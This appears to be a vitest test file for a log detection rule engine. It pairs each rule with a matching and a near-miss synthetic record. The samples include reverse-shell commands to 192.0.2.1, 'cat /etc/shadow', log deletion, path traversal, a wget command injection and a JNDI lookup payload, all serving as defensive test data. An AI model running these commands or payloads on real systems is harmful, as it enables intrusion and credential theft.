import { readdirSync } from 'node:fs';
import { basename, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { RuleEngine } from '../../../engine/rules/engine.ts';
import { loadRules } from '../../../engine/rules/folder.ts';
import { batchOf, type Record } from './records.ts';

const folder = resolve(import.meta.dirname, '../../../resources/rules');
const { rules, problems } = await loadRules([folder]);
const hitsOf = (records: readonly Record[]): string[] => [
  ...new Set(
    new RuleEngine(rules, { level: 'low' }).run(batchOf(records)).map(({ rule }) => `${basename(rule.file, '.yml')}: ${rule.title}`),
  ),
];

const sshd = (time: number, payload: string, address: string): Record => ({
  time,
  payload,
  fields: { programname: 'sshd', remote_addr: address },
});
const failed = (count: number, address = '192.0.2.1'): Record[] =>
  Array.from({ length: count }, (_, i) => sshd(i, `Failed password for root from ${address}`, address));
const sudo = (payload: string): Record => ({ payload, fields: { programname: 'sudo' } });
const process = (proctitle: string, exe = '/bin/x'): Record[] => [
  { fields: { event: 7, type: 'SYSCALL', exe } },
  { fields: { event: 7, type: 'PROCTITLE', proctitle } },
];
const audit = (fields: Record['fields']): Record => ({ fields: { event: 1, ...fields } });
const web = (target: string, more: Record['fields'] = {}, time = 0): Record => ({
  time,
  fields: { remote_addr: '192.0.2.1', request: `GET ${target} HTTP/1.1`, status: 200, http_user_agent: 'Mozilla/5.0', ...more },
});
const pages = (count: number): Record[] => Array.from({ length: count }, (_, i) => web(`/${i}`, { status: 404 }, i / 2));
const cloudTrail = (fields: Record['fields']): Record => ({
  fields: { eventSource: 'cloudtrail.amazonaws.com', eventName: 'x', ...fields },
});
const kubernetes = (fields: Record['fields']): Record => ({
  fields: { verb: 'create', stage: 'ResponseComplete', requestURI: '/api', ...fields },
});
const windows = (Channel: string, EventID: number): Record => ({ fields: { Channel, EventID } });
const dns = (query: string): Record => ({ type: 'zeek.dns', fields: { query } });
const login = { eventName: 'ConsoleLogin', 'userIdentity.type': 'Root' };

/** For each rule, what it is true for, and something near that it is not true for. */
const CASES: readonly (readonly [file: string, title: string, hit: readonly Record[], none: readonly Record[]])[] = [
  ['linux_ssh_guessing', 'Passwords guessed over SSH', failed(10), [...failed(9), ...failed(9, '192.0.2.2')]],
  [
    'linux_ssh_guessing',
    'SSH login after guessed passwords',
    [...failed(10), sshd(11, 'Accepted password for root', '192.0.2.1')],
    [...failed(9), sshd(11, 'Accepted password for root', '192.0.2.1')],
  ],
  ['linux_sudo_refused', 'sudo refused', [sudo('alice : user NOT in sudoers ; TTY=pts/0')], [sudo('alice : TTY=pts/0 ; COMMAND=/bin/ls')]],
  [
    'linux_second_root',
    'Second user with the rights of root',
    [{ payload: 'new user: name=toor, UID=0, GID=0', fields: { programname: 'useradd' } }],
    [{ payload: 'new user: name=bob, UID=1000, GID=0', fields: { programname: 'useradd' } }],
  ],
  [
    'linux_reverse_shell',
    'Shell that connects to another machine',
    process('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
    process('nc -l 80'),
  ],
  ['linux_reverse_shell', 'Shell that connects to another machine', process('nc 192.0.2.1 80 -e /bin/sh'), process('ls /dev/tty')],
  ['linux_password_hashes', 'Password hashes read by a command', process('cat /etc/shadow'), process('pwck /etc/shadow', '/usr/sbin/pwck')],
  ['linux_traces_removed', 'Traces removed', process('rm -f /var/log/auth.log'), process('tail /var/log/auth.log')],
  [
    'linux_audit_stopped',
    'Audit stopped',
    [audit({ type: 'CONFIG_CHANGE', op: 'remove_rule' })],
    [audit({ type: 'CONFIG_CHANGE', op: 'add_rule' })],
  ],
  ['web_path_traversal', 'Path traversal in a request', [web('/a?f=../../etc/passwd')], [web('/a/../b')]],
  ['web_path_traversal', 'Path traversal in a request', [web('/%2e%2e%2f..%2Fetc')], [web('/a..b/')]],
  ['web_secret_files', 'Request for a file with secrets', [web('/.env')], [web('/.env', { status: 404 })]],
  ['web_scanners', 'Scanner for weaknesses', [web('/', { http_user_agent: 'sqlmap/1.7' })], [web('/sqlmap')]],
  ['web_injection', 'Command or lookup in a request', [web('/x?a=;wget%20http://e')], [web('/x?a=wget;b=1')]],
  ['web_injection', 'Command or lookup in a request', [web('/', { http_user_agent: '${jndi:ldap://e}' })], [web('/jndi')]],
  ['web_many_not_found', 'Many pages asked for that are not there', pages(50), pages(49)],
  [
    'aws_root_login',
    'Login as root of an AWS account',
    [cloudTrail({ ...login, responseElements: { json: { ConsoleLogin: 'Success' } } })],
    [cloudTrail({ ...login, responseElements: { json: { ConsoleLogin: 'Failure' } } })],
  ],
  [
    'aws_trail_stopped',
    'CloudTrail stopped',
    [cloudTrail({ eventName: 'StopLogging' })],
    [cloudTrail({ eventName: 'StopLogging', errorCode: 'AccessDenied' })],
  ],
  [
    'kubernetes_exec',
    'Command run in a pod',
    [kubernetes({ 'objectRef.resource': 'pods', 'objectRef.subresource': 'exec' })],
    [kubernetes({ 'objectRef.resource': 'pods', 'objectRef.subresource': 'log' })],
  ],
  [
    'kubernetes_anonymous',
    'Request without a login to Kubernetes',
    [kubernetes({ 'user.username': 'system:anonymous', 'responseStatus.code': 200 })],
    [kubernetes({ 'user.username': 'system:anonymous', 'responseStatus.code': 403 })],
  ],
  ['windows_log_cleared', 'Windows log cleared', [windows('Security', 1102)], [windows('System', 1102)]],
  ['dns_long_names', 'Long name asked for', [dns(`${'a1'.repeat(27)}.example.com`)], [dns('www.example.com')]],
];

describe('the rules of our own', () => {
  it('are all loaded, and each has a case', () => {
    expect(problems).toEqual([]);
    const files = readdirSync(folder).filter((name) => name.endsWith('.yml'));
    expect([...new Set(CASES.map(([file]) => `${file}.yml`))].sort()).toEqual(files.sort());
    const ids = rules.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it.each(CASES)('%s: %s', (file, title, hit, none) => {
    expect(hitsOf(hit)).toContain(`${file}: ${title}`);
    expect(hitsOf(none)).not.toContain(`${file}: ${title}`);
  });
});
